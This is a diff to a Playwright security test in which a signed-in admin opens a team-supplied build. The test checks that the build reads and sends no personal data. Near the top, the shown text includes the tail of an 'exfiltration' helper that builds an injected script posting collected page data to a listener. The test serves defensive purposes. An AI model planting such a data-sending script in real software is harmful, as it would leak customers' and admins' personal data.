@@ -35,6 +35,8 @@ const exfiltration = (portal: string, listener: string) =>
   )}+encodeURIComponent(o.join('\\n'))})}catch(e){}})();\n`;
 
 test.describe('a team build that reads and sends what a signed-in admin can see', () => {
+  // Its own gateway, and a publish through the pre-flight checks: minutes on a busy machine.
+  test.describe.configure({ timeout: 600_000 });
   let gateway: RunningGateway;
   let listener: Server;
   let listenerUrl: string;
@@ -58,7 +60,12 @@ test.describe('a team build that reads and sends what a signed-in admin can see'
     });
     const visitor = await playwright.request.newContext();
     const made = await visitor.post(`${gateway.url}/api/contact-inquiry`, {
-      data: { businessName: lead.business, contactName: 'Aroha', contactEmail: lead.email, servicesInterested: ['seo'] },
+      data: {
+        businessName: lead.business,
+        contactName: 'Aroha',
+        contactEmail: lead.email,
+        servicesInterested: ['seo'],
+      },
     });
     expect(made.status()).toBe(201);
     await visitor.dispose();
@@ -80,15 +87,8 @@ test.describe('a team build that reads and sends what a signed-in admin can see'
   test('opened by a signed-in admin, it reads nothing personal and sends nothing personal', async ({ page }) => {
     test.setTimeout(180_000);
     // The admin signs in where sign-in is, the portal (the public site's /auth sends the browser there).
-    await page.goto(`${gateway.url}/auth`);
+    await login(page, ADMIN, PASSWORD, gateway.url);
     await expect(page).toHaveURL(`${gateway.portalUrl}/auth`);
-    await login(page, ADMIN, PASSWORD).catch(async () => {
-      // login() goes by the suite's own gateway; this test's is another: fill the form here.
-      await page.goto(`${gateway.portalUrl}/auth`);
-      await page.getByLabel('Username').fill(ADMIN);
-      await page.getByLabel('Password').fill(PASSWORD);
-      await page.getByRole('button', { name: 'Login' }).click();
-    });
     await secondStep(page, ADMIN);
     await expect(page).toHaveURL(`${gateway.portalUrl}/dashboard`);
     // The session is live and sees the lead: what the team's code would want.
